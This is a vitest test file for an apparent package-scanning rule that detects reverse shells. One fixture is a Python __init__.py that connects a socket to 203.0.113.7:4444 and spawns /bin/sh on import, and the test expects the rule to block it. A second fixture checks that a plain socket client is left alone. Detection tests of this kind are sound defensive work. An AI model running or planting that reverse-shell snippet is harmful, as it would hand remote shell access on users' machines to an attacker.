import { expect, it } from 'vitest'
import { factsOf } from '../../node/source-facts.test-support.ts'
import { known } from '../../model/facts.ts'
import type { RuleContext } from '../../model/rule.ts'
import { rule } from './reverse-shell.ts'

const context: RuleContext = {
  now: 0,
  minimumAgeMs: 0,
  isCooldownExempt: () => false,
  popularRank: () => null,
  popularNames: [],
}

async function find(files: Record<string, string>): Promise<unknown> {
  const sightings = rule.find({ source: known(await factsOf(files)) }, context)
  return sightings?.map(({ effect, place, automatic }) => [effect, place.file, place.line, automatic])
}

it('blocks a shell that is joined to a socket on import', async () => {
  expect(
    await find({
      'demo/__init__.py':
        "import os, pty, socket\ns = socket.socket()\ns.connect(('203.0.113.7', 4444))\nos.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n",
    }),
  ).toEqual([['block', 'demo/__init__.py', 4, true]])
})

it('leaves a client of a protocol alone', async () => {
  expect(
    await find({
      'demo/__init__.py': "import socket\ndef ask(h):\n    s = socket.create_connection((h, 7))\n    s.sendall(b'x')\n",
    }),
  ).toEqual([])
})
